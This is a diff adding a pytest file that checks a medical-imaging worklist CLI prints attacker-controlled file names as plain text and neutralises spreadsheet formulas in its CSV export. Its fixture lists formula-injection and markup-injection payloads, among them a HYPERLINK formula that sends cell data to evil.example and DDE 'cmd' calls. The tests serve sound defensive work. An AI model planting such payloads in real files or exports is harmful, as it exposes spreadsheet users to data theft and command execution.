@@ -1,0 +1,73 @@
+"""``cxr-triage worklist`` shows what senders wrote (file names, DICOM fields) as text.
+
+File names and header fields are attacker-controlled: Rich must not interpret them as
+markup (``[/x]`` crashed the table, ``[link=...]`` became a hyperlink), and a CSV opened in
+a spreadsheet must not run them as formulas.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from db import migrate
+from db.engine import make_engine, make_session_factory
+from db.worklist import Arrival, admit
+from worker.cli import app
+from worker.settings import get_settings
+
+HOSTILE_NAMES = [
+    "[/x]",
+    "[link=https://evil.example/steal]click me[/link]",
+    "[bold red]URGENT[/bold red]",
+    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def hostile_worklist(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    url = f"sqlite:///{tmp_path / 'worklist.sqlite3'}"
+    migrate.upgrade(url)
+    engine = make_engine(url)
+    with make_session_factory(engine).begin() as session:
+        for n, name in enumerate(HOSTILE_NAMES):
+            admit(
+                session,
+                Arrival(f"{n:064x}", name, f"/inbox/{n}", accession_number=name[:16]),
+            )
+    engine.dispose()
+    monkeypatch.setenv("CXR_DATA_DIR", str(tmp_path))
+    monkeypatch.setenv("CXR_DATABASE_URL", url)
+    get_settings.cache_clear()
+    yield HOSTILE_NAMES
+    get_settings.cache_clear()
+
+
+def test_the_table_prints_markup_in_names_as_text(hostile_worklist: list[str]):
+    result = CliRunner().invoke(app, ["worklist", "--limit", "50"], env={"COLUMNS": "400"})
+    assert result.exit_code == 0, result.output
+    for name in ("[/x]", "[link=https://evil.example/steal]click me[/link]", "[bold red]URGENT"):
+        assert name in result.output
+    assert "\x1b]8;" not in result.output  # no terminal hyperlink
+
+
+def test_csv_cells_cannot_start_a_formula(hostile_worklist: list[str]):
+    result = CliRunner().invoke(app, ["worklist", "--csv", "--limit", "50"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert len(rows) == len(HOSTILE_NAMES)
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    names = {row["source_name"] for row in rows}
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"ok")' in names  # kept, neutralised
+    assert "[/x]" in names
